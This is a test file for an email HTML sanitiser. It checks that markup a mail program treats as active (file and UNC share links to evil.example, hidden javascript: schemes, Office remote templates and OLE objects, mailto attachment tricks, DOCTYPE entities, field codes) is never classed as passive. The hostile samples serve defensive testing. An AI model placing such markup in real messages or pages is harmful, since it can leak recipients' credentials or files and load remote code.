/** Pages that act in a mail program which reads them differently than browsers. Nothing of that may count as passive. */
import { describe, expect, test } from 'vitest';
import { disarm } from '../../../lib/engines/disarm/html/html.ts';
import { PASSIVE } from '../../../lib/engines/disarm/html/rules.ts';
import { DEFAULT_ENGINE_LIMITS } from '../../../lib/engines/engine.ts';
import type { DetectedType } from '../../../lib/formats/detection/detected-type.ts';

const HTML: DetectedType = { type: 'text/html', extension: 'html', description: 'HTML page' };
const PASSIVE_KINDS: ReadonlySet<string> = new Set(Object.values(PASSIVE));

/** The findings of a page that also holds a picture from the web, as every newsletter does. */
async function activeKinds(markup: string): Promise<readonly string[]> {
  const bytes = new TextEncoder().encode(`<p>Hello</p><img src="https://shop.example/x.png">${markup}`);
  const input = { bytes, untrustedName: 'page.html', password: null };
  const { details } = await disarm(input, HTML, DEFAULT_ENGINE_LIMITS);
  return [...new Set(details.map(({ kind }) => kind).filter((kind) => !PASSIVE_KINDS.has(kind)))];
}

const SHARE = 'file://evil.example/x';
const CONDITIONAL = 'conditional comment with active content';
const COMMENT = 'comment with active content';

describe('is active', () => {
  test.each([
    ['a cell without a table', `<td background="${SHARE}">`, 'active link'],
    ['a row without a table', '<tr onclick="x()">', 'event handler'],
    ['a frame without a set', '<frame src="https://evil.example/x">', 'frame'],
    ['a second body', `<body background="cid:a"><body background="${SHARE}">`, 'active link'],
    ['an attribute that stands twice', `<img src="cid:a" src="${SHARE}">`, 'active link'],
    ['a third time, in the other case', `<img src=cid:a Src=cid:b SRC='${SHARE}'>`, 'active link'],
    [
      'a twice named attribute of a tag without a place',
      `<td width=1 width=2 width=3 background="${SHARE}">`,
      'active link',
    ],
    [
      'a cell in a conditional comment',
      `<!--[if mso]><td background="${SHARE}"><![endif]-->`,
      'conditional comment with active content',
    ],
    [
      'a comment in a conditional comment',
      `<!--[if mso]><!-- <img src="${SHARE}"> <![endif]-->`,
      'conditional comment with active content',
    ],
    [
      'an embedded object of Office',
      '<!--[if gte mso 9]><xml><o:OLEObject Type="Link" ProgID="htmlfile"></o:OLEObject></xml><![endif]-->',
      'conditional comment with active content',
    ],
    [
      'the template of a document',
      '<!--[if gte mso 9]><xml><w:AttachedTemplate HRef="https://evil.example/x.dotm"/></xml><![endif]-->',
      'conditional comment with active content',
    ],
    [
      'the macros of a document',
      '<link rel=Edit-Time-Data href="cid:editdata.mso">',
      'style sheet or other file loaded',
    ],
    ['a scheme behind many blanks', `<a href="${' '.repeat(5_000)}javascript:x()">x</a>`, 'active link'],
    ['a scheme with many tabs in it', `<img src="f${'\t'.repeat(5_000)}ile://evil.example/x">`, 'active link'],
    ['a share behind many blanks', `<img src="${'\n'.repeat(5_000)}\\\\evil.example\\x">`, 'active link'],
    ['the second of a set of pictures', `<img srcset="https://shop.example/a 1x, ${SHARE} 2x">`, 'active link'],
    ['the second of a set without blanks', '<img srcset="a.png,\\\\evil.example\\x">', 'active link'],
    [
      'style behind a string that a line ends',
      `<style>@import "https://a.example/x\n;} p{background:url(${SHARE})} q{content:"}</style>`,
      'active style',
    ],
    [
      'style between two comments',
      `<style>/* @import "https://a */ p{background:url(${SHARE})} /* " */</style>`,
      'active style',
    ],
    ['style of the message that nobody looked at', '<style>@import url(cid:style)</style>', 'active style'],
    [
      'a filter that loads',
      `<p style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='${SHARE}')">`,
      'active style',
    ],
    [
      'data that is written as markup',
      '<xml id=i></xml><span datasrc=#i datafld=c dataformatas=html></span>',
      'bound data',
    ],
    ['elements with a behaviour', '<?import namespace="t" implementation="#default#time2">', 'element behaviour'],
  ])('%s', async (_, markup, kind) => {
    expect(await activeKinds(markup)).toEqual([kind]);
  });
});

describe('is passive', () => {
  test.each([
    ['a cell without a table', '<td width=5 background="https://shop.example/x.png">'],
    ['an attribute that stands twice', '<p style="color:red" style="color:blue" data-x=1 data-x=2>x</p>'],
    ['a set of pictures', '<img srcset="https://shop.example/a,w_2.png 1x, data:image/png;base64,iVBORw0KGgo= 2x">'],
    [
      'rows in conditional comments',
      '<!--[if mso]><table><tr><td width=5><![endif]-->x<!--[if mso]></td></tr></table><![endif]-->',
    ],
    ['a page shown to all but Outlook', '<!--[if !mso]><!-- --><p>x</p><!--<![endif]-->'],
    [
      'fonts from the web',
      '<style>@import url(https://fonts.example/css2?family=A:wght@400;700); @import "https://fonts.example/b"; p{background:url("cid:a")}</style>',
    ],
    [
      'the notes of Word',
      '<?xml:namespace prefix = o ns = "urn:schemas-microsoft-com:office:office" /><link rel=File-List href="cid:filelist.xml@x"><o:p></o:p>',
    ],
  ])('%s', async (_, markup) => {
    expect(await activeKinds(markup)).toEqual([]);
  });
});

describe('is unknown, and never passive', () => {
  test.each([
    ['a field in style', "<span style='mso-element:field-begin'></span>", 'field code'],
    ['a field in a sheet', '<style>p{color:red}.f{mso-element:field-begin}</style>', 'field code'],
    ['a field in a comment', "<!--[if supportFields]><b style='mso-element:field-begin'></b><![endif]-->", CONDITIONAL],
    ['a field in a comment without a condition', "<!-- <b style='mso-element:field-begin'></b> -->", COMMENT],
    ['a field with an escape', "<b style='mso-\\65lement:field-begin'></b>", 'unknown style'],
    ['a property that nobody knows', '<b style="mso-field-change-x:1">x</b>', 'field code'],
    ['a load by another name', '<b style="mso-header:cid(x)">x</b>', 'unknown style'],
    ['an element of a document', '<w:instrText>x</w:instrText>', 'unknown element'],
    ['an element of nobody', '<x-unknown>x</x-unknown>', 'unknown element'],
    ['an attribute with an address', '<p x:live="https://evil.example/">x</p>', 'unknown attribute'],
    ['markup in a value', '<img src="cid:a" alt="<img src=x>">', 'unknown attribute'],
    ['another program of the page', '<meta name=ProgId content=Excel.Sheet>', 'unknown metadata'],
    ['a relation that loads', '<link rel=File-List href="https://evil.example/f.xml">', 'unknown linked file'],
    ['a malformed condition', '<!--[if mso>x<![endif]-->', 'unknown comment'],
    ['a condition in the middle of a comment', '<!-- x [if mso]> y -->', 'unknown comment'],
    ['a declaration of another program', '<?mso-application progid="Excel.Sheet"?>', 'unknown declaration'],
    ['a document type that declares', '<!DOCTYPE x SYSTEM "file:///x">', 'unknown declaration'],
    [
      'a string that an escaped quote may end',
      `<b style='font-family:"a\\";mso-element:field-begin;"'>x</b>`,
      'field code',
    ],
    ['a document type with declarations', '<!DOCTYPE html [<!ENTITY a SYSTEM "x">]>', 'unknown declaration'],
    ['a picture that is a device', '<img src="con.gif">', 'incomplete link'],
    ['half a tag at the end', '<img src="https://shop.example/y.png" ', 'unclosed tag'],
    ['a link that programs complete', '<a href="www.evil.example">x</a>', 'incomplete link'],
    ['a relative link', '<a href="news.html">x</a>', 'incomplete link'],
    ['a picture in a folder', '<img src="evil.example/1.gif">', 'incomplete link'],
    ['a letter with a file of the reader', '<a href="mailto:a@evil.example?a%74tach=c:/x">x</a>', 'incomplete link'],
  ])('%s', async (_, markup, kind) => {
    expect(await activeKinds(markup)).toEqual([kind]);
  });
});
